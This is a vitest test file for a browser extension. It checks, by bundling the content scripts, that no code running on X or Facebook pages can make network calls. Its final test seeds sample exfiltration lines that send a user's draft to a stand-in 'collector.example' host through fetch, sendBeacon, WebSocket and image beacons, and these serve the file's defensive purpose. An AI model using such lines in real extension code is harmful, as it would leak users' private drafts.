// Drafts never leave the device: the code that runs in X and Facebook pages (the content scripts,
// everything they import, libraries included) has no way to send anything over the network.
// The content entrypoints are bundled here exactly as far as their imports reach, so a new import
// that brings a network call with it fails this test before any build.
import { readFile } from 'node:fs/promises';
import { resolve } from 'node:path';
import { build, type Metafile } from 'esbuild';
import { beforeAll, describe, expect, it } from 'vitest';
import { networkApisIn } from './support/network-apis';

const ROOT = resolve(import.meta.dirname, '../..');
const CONTENT_ENTRYPOINTS = ['entrypoints/content/index.ts', 'entrypoints/paste-bridge.content.ts'];


/**
 * Library code that names a network API, and why it is harmless. Each entry is checked, not trusted:
 * the matched text must be the one described.
 */
const ALLOWED_IN_LIBRARIES: { module: RegExp; api: string; proof: RegExp; why: string }[] = [
  {
    module: /node_modules\/wxt\/dist\/utils\/content-script-ui\//,
    api: 'fetch',
    proof: /runtime\.getURL\(`\/content-scripts\/\$\{[^}]+\}\.css`\);\s*try \{\s*return await \(await fetch\(url\d*\)\)\.text\(\);/,
    why: "WXT reads the extension's own stylesheet (a moz-/chrome-extension:// URL) for the shadow root",
  },
  {
    module: /node_modules\/@webext-core\/isolated-element\//,
    api: 'fetch',
    proof: /if \("url" in css\) \{\s*style\.textContent = yield fetch\(css\.url\)/,
    why: 'the isolated-element helper can load a stylesheet by URL; WXT passes the CSS text instead (loadCss above)',
  },
];

interface Module {
  path: string;
  code: string;
}

let modules: Module[];
let metafile: Metafile;

/** Splits esbuild's unminified output at its `// path` module headers. */
function splitModules(bundle: string): Module[] {
  const parts = bundle.split(/^ {2}\/\/ ((?:node_modules\/|[\w-]+\/)[^\n]+)$/m);
  const out: Module[] = [];
  for (let i = 1; i < parts.length; i += 2) out.push({ path: parts[i]!, code: parts[i + 1]! });
  return out;
}

beforeAll(async () => {
  const result = await build({
    entryPoints: CONTENT_ENTRYPOINTS.map((p) => resolve(ROOT, p)),
    absWorkingDir: ROOT,
    bundle: true,
    write: false,
    outdir: 'no-network-out',
    format: 'iife',
    platform: 'browser',
    metafile: true,
    loader: { '.css': 'empty' },
    jsx: 'automatic',
    jsxImportSource: 'preact',
    logLevel: 'error',
  });
  metafile = result.metafile;
  modules = result.outputFiles.flatMap((file) => splitModules(file.text));
}, 60_000);

describe('no network calls in the content scripts', () => {
  it('bundles what the pages really load: our sources and the libraries they import', () => {
    const inputs = Object.keys(metafile.inputs);
    expect(inputs).toEqual(expect.arrayContaining(CONTENT_ENTRYPOINTS));
    expect(inputs.some((p) => p.startsWith('rules/engine/'))).toBe(true);
    expect(inputs.some((p) => p.includes('node_modules/preact/'))).toBe(true);
    expect(modules.length).toBeGreaterThan(50);
  });

  it('our own sources in the content scripts name no network API (read from disk, JSX and comments included)', async () => {
    const ours = Object.keys(metafile.inputs).filter((p) => !p.includes('node_modules') && /\.(?:ts|tsx)$/.test(p));
    expect(ours.length).toBeGreaterThan(20);
    const offenders: string[] = [];
    for (const path of ours) {
      const source = (await readFile(resolve(ROOT, path), 'utf8')).replace(/^\s*(?:\/\/|\*|\/\*).*$/gm, '');
      for (const api of networkApisIn(source)) offenders.push(`${path}: ${api}`);
    }
    expect(offenders).toEqual([]);
  });

  it('library code bundled into them names no network API except the listed, checked stylesheet loads', () => {
    const offenders: string[] = [];
    const allowedSeen = new Set<string>();
    for (const { path, code } of modules) {
      for (const api of networkApisIn(code)) {
        const allowance = ALLOWED_IN_LIBRARIES.find((a) => a.module.test(path) && a.api === api);
        if (allowance && allowance.proof.test(code) && code.match(/\bfetch\s*\(/g)?.length === 1) {
          allowedSeen.add(allowance.why);
          continue;
        }
        offenders.push(`${path}: ${api}`);
      }
    }
    expect(offenders).toEqual([]);
    // Each allowance is still needed; when a library drops its fetch, the list shrinks with it.
    expect([...allowedSeen].sort()).toEqual(ALLOWED_IN_LIBRARIES.map((a) => a.why).sort());
  });

  it('the patterns catch what they are for (each seeded call is found)', () => {
    const seeded = [
      "fetch('https://collector.example/?d=' + draft)",
      "navigator.sendBeacon('https://collector.example', draft)",
      'new XMLHttpRequest()',
      "new WebSocket('wss://collector.example')",
      "new EventSource('/stream')",
      "new Image().src = 'https://collector.example/p.gif?d=' + draft",
      "document.createElement('img')",
      "el.setAttribute('src', url)",
      '<img src={url} />',
      "window.open('https://collector.example')",
    ];
    for (const code of seeded) expect(networkApisIn(code), code).not.toEqual([]);
    expect(networkApisIn("const fetched = await fetchPack(url); // no call to the bare API\nel.srcObject === x")).toEqual([]);
  });
});
